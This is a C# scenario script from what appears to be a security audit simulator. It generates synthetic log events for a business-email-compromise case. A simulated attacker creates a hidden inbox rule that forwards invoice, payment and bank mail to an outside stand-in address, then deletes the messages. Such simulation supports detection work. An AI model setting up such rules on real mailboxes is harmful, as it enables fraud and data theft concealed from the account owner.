using AuditOps.Simulator.Acts;
using AuditOps.Simulator.Organisation;

namespace AuditOps.Simulator.Scenarios.Script;

/// <summary>A rule sends what speaks of money to somebody outside and hides it from the owner.</summary>
internal static class InboxRuleExfiltration
{
    public static void Play(Stage stage)
    {
        var from = stage.Attacker();
        var victim = stage.Victim();
        stage.Logon(stage.Try(victim, from) with { App = FirstParty.OutlookWeb, Resource = FirstParty.Exchange });
        stage.Wait(120, 900);
        var name = stage.Dice.Chance(0.5) ? "." : "Newsletters";
        stage.Cmdlet(victim, from.Address, "New-InboxRule", $"{victim.Upn}\\{name}", ("Name", name), ("SubjectOrBodyContainsWords", "invoice;payment;bank"), ("ForwardTo", $"{stage.Dice.Pick(Names.Given).ToLowerInvariant()}@partner.example"), ("DeleteMessage", "True"), ("StopProcessingRules", "True"));
        for (var i = 0; i < 6; i++)
        {
            stage.Wait(100, 1_500);
            stage.Mail(victim, victim, from, i % 2 == 0 ? "MailItemsAccessed" : "HardDelete", "Re: invoice");
        }
    }
}
